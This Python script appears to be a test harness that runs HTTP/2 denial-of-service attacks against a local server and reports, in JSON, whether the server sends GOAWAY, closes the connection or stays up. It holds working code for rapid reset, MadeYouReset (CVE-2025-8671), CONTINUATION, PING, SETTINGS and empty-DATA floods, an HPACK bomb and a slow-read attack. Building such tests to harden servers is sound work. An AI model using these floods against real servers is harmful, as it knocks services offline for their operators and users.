#!/usr/bin/env python3
"""Floods and bombs over HTTP/2 from outside: h2_attacks.py PORT HOST ATTACK

Attacks until the server has had enough or the attack is over, then says in one line of JSON what came of it: `end` (goaway,
closed, or alive), `code` and `text` of the GOAWAY, `resets` (code to count), `statuses` (status to count), `sent` (frames).
"""
import collections
import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

import h2_frames as h2

MANY = 100_000
CANCEL = 8
BATCH = 50  # frames for each write


class Attacker:
    def __init__(self, port, host, **settings):
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        tls.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), 60)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.host, self.sock = host, tls.wrap_socket(raw, server_hostname=host)
        self.sock.setblocking(False)
        self.said = {"end": "alive", "code": None, "text": "", "sent": 0}
        self.resets, self.statuses = collections.Counter(), collections.Counter()
        self.decoder, self.stream, self.is_over = hpack.Decoder(max_header_list_size=1 << 20), 1, False
        self.incoming, self.on_data = bytearray(), lambda stream, n: None
        self.send(h2.PREFACE + h2.settings(**settings))

    def new_stream(self):
        stream, self.stream = self.stream, self.stream + 2
        return stream

    def request(self, stream, end=True, path="/slow?60", **more):
        return h2.headers(stream, h2.request_fields(self.host, path, **more), end)

    # --- bytes ---

    def send(self, data, until=lambda: True, seconds=60):
        """Sends, and reads meanwhile, until all has gone and `until` is true, or the connection is over, or time is up; in
        one thread, for TLS of Python may not be read and written at once."""
        deadline = time.monotonic() + seconds
        try:
            while not self.is_over and (data or not until()) and (left := deadline - time.monotonic()) > 0:
                has_read = self.read()
                data = data[self.write(data) :]
                if not has_read:
                    select.select([self.sock], [self.sock] if data else [], [], min(left, 0.1))
        except OSError as error:
            self.is_over = True
            if self.said["end"] == "alive":
                self.said |= {"end": "closed", "text": repr(error)}

    def write(self, data):
        try:
            return self.sock.send(data) if data else 0
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return 0

    def read(self):
        try:
            piece = self.sock.recv(65536)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False
        if not piece:
            raise ConnectionError("closed")
        self.incoming += piece
        while len(self.incoming) >= 9 and len(self.incoming) >= (end := 9 + int.from_bytes(self.incoming[:3], "big")):
            kind, flags, stream = struct.unpack(">BBL", self.incoming[3:9])
            payload = bytes(self.incoming[9:end])
            del self.incoming[:end]
            self.on_frame(kind, flags, stream, payload)
        return True

    def on_frame(self, kind, flags, stream, payload):
        if kind == h2.GOAWAY:
            self.said |= {"end": "goaway", "code": h2.error_name(struct.unpack(">L", payload[4:8])[0])}
            self.said["text"] = payload[8:].decode("latin-1")
            self.is_over = True
        elif kind == h2.RST_STREAM:
            self.resets[h2.error_name(struct.unpack(">L", payload)[0])] += 1
        elif kind == h2.HEADERS:
            self.statuses[dict(self.decoder.decode(payload)).get(":status")] += 1
        elif kind == h2.DATA:
            self.on_data(stream, len(payload))

    # --- what goes ---

    def flood(self, make, n=MANY):
        """Sends make() again and again until the server has had enough."""
        for _ in range(0, n, BATCH):
            if self.is_over:
                return
            self.send(b"".join(make() for _ in range(BATCH)))
            self.said["sent"] += BATCH
        self.send(b"", until=lambda: False, seconds=10)

    def report(self):
        print(json.dumps({**self.said, "resets": self.resets, "statuses": self.statuses}), flush=True)


def rapid_reset(attacker):
    def one():
        stream = attacker.new_stream()
        return attacker.request(stream) + h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">L", CANCEL))

    attacker.flood(one)


def made_you_reset(attacker):
    """A request, then something wrong on its stream, so that the server itself resets it (CVE-2025-8671)."""

    def one():
        stream = attacker.new_stream()
        return attacker.request(stream) + h2.window_update(stream, (1 << 31) - 1)

    attacker.flood(one)


def continuation(attacker, piece=b"a"):
    block = attacker.request(attacker.new_stream(), end=False)
    attacker.send(block[:4] + b"\0" + block[5:])  # without END_HEADERS
    attacker.send(h2.frame(h2.CONTINUATION, 0, 1, b"\0\1x" + h2.integer(40000, 7)))
    attacker.flood(lambda: h2.frame(h2.CONTINUATION, 0, 1, piece))


def empty_continuation(attacker):
    continuation(attacker, b"")


def ping(attacker):
    attacker.flood(lambda: h2.frame(h2.PING, 0, 0, bytes(8)), 10 * MANY)


def settings(attacker):
    attacker.flood(lambda: h2.settings(INITIAL_WINDOW=65535), 10 * MANY)


def empty_data(attacker):
    stream = attacker.new_stream()
    attacker.send(attacker.request(stream, end=False, path="/upload", method="POST"))
    attacker.flood(lambda: h2.frame(h2.DATA, 0, stream), 10 * MANY)


def priority(attacker):
    attacker.flood(lambda: h2.frame(h2.PRIORITY, 0, 1, struct.pack(">LB", 3, 1)), 10 * MANY)


def hpack_bomb(attacker):
    """4,000 bytes in the table, then a field of one byte that names them, again and again: 16 KB that mean 64 MB."""
    fields = h2.block(h2.request_fields(attacker.host))
    insert = b"\x40\x01x" + h2.integer(3900, 7) + b"v" * 3900
    for _ in range(20):
        stream = attacker.new_stream()
        block = fields + insert + b"\xbe" * 12000
        attacker.said["sent"] += 1
        expected = attacker.said["sent"]
        attacker.send(
            h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block),
            until=lambda: attacker.statuses.total() + attacker.resets.total() >= expected,
        )


def dribble(attacker):
    """A window of one byte, opened again for each byte that comes: a hundred long responses, as slowly as can be."""

    opened = bytearray()

    def on_data(stream, n):
        if n > 0:
            opened.extend(h2.window_update(stream, n))

    attacker.on_data = on_data
    for _ in range(100):
        attacker.send(attacker.request(attacker.new_stream(), path="/bytes/67108864"))
        attacker.said["sent"] += 1
    print("dribbling", flush=True)
    deadline = time.monotonic() + float(sys.argv[4])
    while time.monotonic() < deadline and not attacker.is_over:
        data = bytes(opened)
        opened.clear()
        attacker.send(data, until=lambda: opened, seconds=1)


SETTINGS = {"dribble": {"INITIAL_WINDOW": 1}}
ATTACKS = (rapid_reset, made_you_reset, continuation, empty_continuation, ping, settings, empty_data, priority,
           hpack_bomb, dribble)

if __name__ == "__main__":
    run = {attack.__name__: attack for attack in ATTACKS}[sys.argv[3]]
    attacker = Attacker(int(sys.argv[1]), sys.argv[2], **SETTINGS.get(sys.argv[3], {}))
    run(attacker)
    attacker.report()
